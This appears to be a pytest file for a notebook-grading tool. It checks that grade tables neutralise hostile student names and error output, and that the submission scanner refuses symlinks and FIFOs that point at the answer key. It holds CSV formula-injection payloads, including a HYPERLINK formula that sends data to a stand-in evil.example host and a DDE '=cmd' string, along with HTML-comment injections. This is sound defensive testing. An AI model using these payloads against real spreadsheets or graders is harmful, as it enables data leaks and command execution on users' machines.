"""Grade tables that survive odd names and hostile output, and submissions that must be
regular files inside the submissions folder: each case planted, its outcome asserted."""

import csv
import os
import re
import shutil
import unicodedata
from pathlib import Path

import pytest
from nbformat.v4 import new_output
from test_grading import NAME, _answer, _solution, _write

from blockmem_lite.tools import grade_kernel, grade_report, grading, review_sheet
from blockmem_lite.tools.exercises import make_exercise
from blockmem_lite.tools.grade_report import COLUMNS, Row

FORMULAS = ["=HYPERLINK(\"http://evil.example/?leak\", \"click\")", "+1+2", "-3+4", "@SUM(A1)",
            "\t=1+1", "\r=1+1", "  =1+1"]
SPLITTING = ["ann\nbob", "c|d", "e\r\nf", "g\u2028h", "i\\|j", "k\x1b[2Jl"]
UNESCAPED_HTML = r"(?<!\\)<"
MD_ESCAPES = {ord("\\"): "\\\\", ord("|"): "\\|", ord("["): "\\["}
JOSE_NFC = unicodedata.normalize("NFC", "José")
JOSE_NFD = unicodedata.normalize("NFD", "José")


def _rows(students, message="AssertionError: no", answer=""):
    rows = []
    for name in students:
        rows += [Row(name, "01_x", "01_x.ipynb", "nb01-c3", message, "Exercise 1", 1),
                 Row(name, "01_x", "01_x.ipynb", "nb01-c5", "", "Exercise 2", 1),
                 Row(name, "01_x", "01_x.ipynb", "nb01-c6", "", "Explain", 1,
                     grade_report.BY_HAND, answer)]
    return rows


def _tables(tmp_path, rows, seconds=None):
    """(the CSV as Python's csv module reads it, grades.md, written_answers.md)."""
    grade_report.write_tables(rows, tmp_path, "process", seconds)
    with open(tmp_path / "grades.csv", newline="", encoding="utf-8") as f:
        table = list(csv.reader(f))
    return table, (tmp_path / "grades.md").read_text(encoding="utf-8"), \
        (tmp_path / "written_answers.md").read_text(encoding="utf-8")


def _md_cells(line: str) -> list[str]:
    """The cells of a GFM table row: split at each pipe that no backslash escapes."""
    cells, cell, escaped = [], "", False
    for char in line:
        if char == "|" and not escaped:
            cells.append(cell)
            cell = ""
        else:
            cell += char
        escaped = char == "\\" and not escaped
    return [c.strip() for c in cells[1:]]


def _section(md: str, title: str) -> list[str]:
    return md.split(f"## {title}\n\n")[1].split("\n\n")[0].splitlines()


# --- the table writer ----------------------------------------------------------------------------


def test_formula_like_names_and_messages_are_text_in_the_csv(tmp_path):
    table, md, _ = _tables(tmp_path, _rows(FORMULAS, message="=cmd|' /C calc'!A0") +
                           _rows(["alice"]))
    read_back = {row[0] for row in table[1:]}
    assert read_back == {"'" + grade_report.visible(name) for name in FORMULAS} | {"alice"}
    failed = [row for row in table[1:] if row[7] == "failed" and row[0] != "alice"]
    assert {row[8] for row in failed} == {"'=cmd|' /C calc'!A0"}
    assert "| '=HYPERLINK(\"http://evil.example/?leak\", \"click\") |" in md


def test_newlines_and_pipes_keep_one_row_per_student_and_exercise(tmp_path):
    rows = _rows(SPLITTING, message="CheckFailed: a | b\nexpected 1\r\n<!-- the rest hidden")
    table, md, answers = _tables(tmp_path, rows)
    assert len((tmp_path / "grades.csv").read_text(encoding="utf-8").splitlines()) == len(rows) + 1
    assert [row[0] for row in table[1:]] == [grade_report.visible(r.student) for r in rows]
    every = _section(md, "Every exercise")
    assert len(every) == len(rows) + 2
    assert all(len(_md_cells(line)) == len(COLUMNS) for line in every)
    assert not re.search(UNESCAPED_HTML, md) and "\\<!--" in md
    shown = [grade_report.visible(name).translate(MD_ESCAPES) for name in SPLITTING]
    totals = _section(md, "Totals (automatically graded points)")
    assert [_md_cells(line)[0] for line in totals[2:]] == shown
    assert [line for line in answers.splitlines() if line.startswith("### ")] == \
        [f"### {name}" for name in shown]


def test_names_alike_in_nfc_and_nfd_are_told_apart(tmp_path):
    assert JOSE_NFC != JOSE_NFD and len(JOSE_NFD) == len(JOSE_NFC) + 1
    table, md, answers = _tables(tmp_path, _rows([JOSE_NFC, JOSE_NFD, "alice"]),
                                 {JOSE_NFC: 3, JOSE_NFD: 7, "alice": 1})
    labels = [f"{JOSE_NFC} (Jos\\xe9)", f"{JOSE_NFD} (Jose\\u0301)", "alice"]
    assert list(dict.fromkeys(row[0] for row in table[1:])) == labels
    totals = _section(md, "Totals (automatically graded points)")[2:]
    assert [(_md_cells(line)[0], _md_cells(line)[-1]) for line in totals] == [
        (labels[0].replace("\\", "\\\\"), "3 s"), (labels[1].replace("\\", "\\\\"), "7 s"),
        ("alice", "1 s")]
    assert answers.count(f"### {JOSE_NFC} (Jos\\\\xe9)") == 1


def test_long_hostile_output_is_shortened_and_escaped(tmp_path):
    raised = "=cmd|" + "x" * 100_000 + "\n<!--|" + "y" * 100_000
    cell = {"outputs": [new_output("error", ename="ValueError", evalue=raised, traceback=[])]}
    message = grade_kernel.cell_error(cell)
    assert len(message) == grade_kernel.ERROR_CHARS and message.endswith("…")
    assert message.startswith("ValueError: =cmd|xxx")
    assert len(grade_kernel.failed_reply({"status": "error", "ename": "E", "evalue": raised})) \
        < grade_kernel.ERROR_CHARS + 60
    answer = "<!-- hides every answer after it\n" + "z" * 100_000
    table, md, answers = _tables(tmp_path, _rows(["ann"], message=raised, answer=answer))
    assert len(table[1][8]) == grade_report.CELL_CHARS + 1 and table[1][8].startswith("'=cmd")
    assert table[1][8].endswith("…")
    assert max(map(len, md.splitlines())) < 2 * grade_report.CELL_CHARS
    assert len(answers) < grade_report.ANSWER_CHARS + 500
    assert not re.search(UNESCAPED_HTML, answers) and "> \\<!-- hides" in answers


# --- the submission scanner ----------------------------------------------------------------------


@pytest.fixture
def reads(monkeypatch):
    """Every path the grader reads a notebook from (a recorded read raises, unread)."""
    seen = []

    def read_notebook(path):
        seen.append(Path(path))
        raise AssertionError(f"read {path}")

    monkeypatch.setattr(grading, "read_notebook", read_notebook)
    return seen


def _plant(case: str, subs: Path, key: Path) -> tuple[str, str]:
    """One refused case in ``subs``: (the student, the path named in the refusal)."""
    if case == "student folder is a symlink":
        (subs / "mallory").symlink_to(key, target_is_directory=True)
        return "mallory", "mallory is a symlink"
    if case == "notebook is a symlink":
        (subs / "eve").mkdir()
        (subs / "eve" / NAME).symlink_to(key / NAME)
        return "eve", f"eve/{NAME} is a symlink"
    if case == "notebook is behind a symlinked folder outside":
        (subs / "oscar").mkdir()
        (subs / "oscar" / "work").symlink_to(key, target_is_directory=True)
        return "oscar", "oscar/work is a symlink"
    (subs / "zed").mkdir()
    os.mkfifo(subs / "zed" / NAME)
    return "zed", f"zed/{NAME} is not a regular file (a FIFO)"


CASES = ["student folder is a symlink", "notebook is a symlink",
         "notebook is behind a symlinked folder outside", "notebook is a FIFO"]


@pytest.mark.parametrize("case", CASES)
def test_the_scanner_refuses_links_and_special_files_unread(tmp_path, reads, case):
    key = tmp_path / "key"
    _write(_solution(), key / NAME)
    subs = tmp_path / "subs"
    subs.mkdir()
    student, named = _plant(case, subs, key)
    solutions = {"01": grading.Solution("01_sums", ())}
    [scanned] = grading.scan(subs, solutions)
    refused = scanned.notebook("01") or scanned.unknown[0]
    why = refused.why if isinstance(refused, grading.Refused) else refused.message
    assert scanned.folder.name == student and why.startswith(f"refused: {named}")
    assert reads == []


def test_a_refused_notebook_yields_to_a_regular_one_and_unnumbered_ones_get_a_row(
        tmp_path, monkeypatch):
    subs, key = tmp_path / "subs", tmp_path / "key"
    _write(_solution(), key / NAME)
    _write(_solution(), subs / "ann" / "b" / NAME)
    (subs / "ann" / NAME).symlink_to(key / NAME)                    # sorts first
    (subs / "ann" / "homework.ipynb").symlink_to(key / NAME)        # no NN in its name
    seen = []
    monkeypatch.setattr(grading, "read_notebook", lambda path: seen.append(Path(path)))
    [ann] = grading.scan(subs, {"01": grading.Solution("01_sums", ())})
    assert ann.notebook("01") == subs / "ann" / "b" / NAME
    assert [(r.file, r.message.split(" (")[0]) for r in ann.unknown] == [
        ("homework.ipynb", "refused: ann/homework.ipynb is a symlink")]
    assert seen == []                                 # matched by name: nothing read at all


# --- one grading run with every case -------------------------------------------------------------


def test_a_class_with_hostile_names_output_links_and_fifos_is_graded_safely(
        tmp_path, monkeypatch, capsys):
    solutions, key, subs = tmp_path / "solutions", tmp_path / "key", tmp_path / "subs"
    _write(_solution(), solutions / NAME)
    shutil.copytree(solutions, key)                   # the teacher's answers, kept elsewhere
    hostile = "=1+1|x\ny"
    loud = _answer(make_exercise(_solution(), NAME))
    loud.cells[2].source = "raise ValueError('=cmd|' + 'x' * 50_000 + '\\n<!--')"
    _write(loud, subs / hostile / NAME)
    for case in ("student folder is a symlink", "notebook is a symlink", "notebook is a FIFO"):
        _plant(case, subs, key)
    real_read, reads = grading.read_notebook, []

    def read_notebook(path):
        reads.append(Path(path).resolve())
        if Path(path).resolve().is_relative_to(key) or not Path(path).is_file():
            raise AssertionError(f"read {path}")      # graded 0 as well, but never hangs
        return real_read(path)

    monkeypatch.setattr(grading, "read_notebook", read_notebook)
    monkeypatch.setattr(review_sheet, "read_notebook", read_notebook)
    assert grading.main([str(subs), "--solutions", str(solutions), "--out",
                         str(tmp_path / "grades"), "--cell-timeout", "60"]) == 0
    assert not [p for p in reads if p.is_relative_to(key) or not p.is_file()]
    with open(tmp_path / "grades" / "grades.csv", newline="", encoding="utf-8") as f:
        table = [row for row in csv.DictReader(f)]
    by_student = {}
    for row in table:
        by_student.setdefault(row["student"], []).append((row["score"], row["message"]))
    assert sorted(by_student) == ["'=1+1|x\\ny", "eve", "mallory", "zed"]
    loud_rows = by_student["'=1+1|x\\ny"]
    assert loud_rows[1] == ("1", "")
    assert loud_rows[0][0] == "0" and loud_rows[0][1].startswith("cell 2: ValueError: =cmd|xxx")
    assert loud_rows[0][1].endswith("…") and len(loud_rows[0][1]) < grade_kernel.ERROR_CHARS + 10
    for student in ("eve", "mallory", "zed"):
        assert by_student[student] == [("0", by_student[student][0][1])] * 2
        assert by_student[student][0][1].startswith(f"refused: {student}")
    md = (tmp_path / "grades" / "grades.md").read_text(encoding="utf-8")
    assert len(_section(md, "Every exercise")) == len(table) + 2
    assert len(_section(md, "Totals (automatically graded points)")) == 4 + 2
    review = (tmp_path / "grades" / "review.md").read_text(encoding="utf-8")
    assert "'x' * 50_000" in review and review.count("Not read: refused") == 2   # eve, zed
    assert "1/8 checks passed for 4 student(s)" in capsys.readouterr().out




def test_a_refused_folder_keeps_its_row_when_no_notebook_is_graded(tmp_path, monkeypatch):
    """Nothing else was submitted, so no kernel starts and only the refusal is left to show."""
    solutions, subs = tmp_path / "solutions", tmp_path / "subs"
    _write(_solution(), solutions / NAME)
    subs.mkdir()
    _plant("student folder is a symlink", subs, solutions)
    real_read, reads = grading.read_notebook, []
    monkeypatch.setattr(grading, "read_notebook", lambda path: reads.append(path) or
                        real_read(path))
    rows, _, _ = grading.grade(subs, solutions)
    assert [(r.student, r.score, r.message.split(" (")[0]) for r in rows] == [
        ("mallory", 0, "refused: mallory is a symlink")]
    assert reads == [solutions / NAME]                # the teacher's, by its own path only
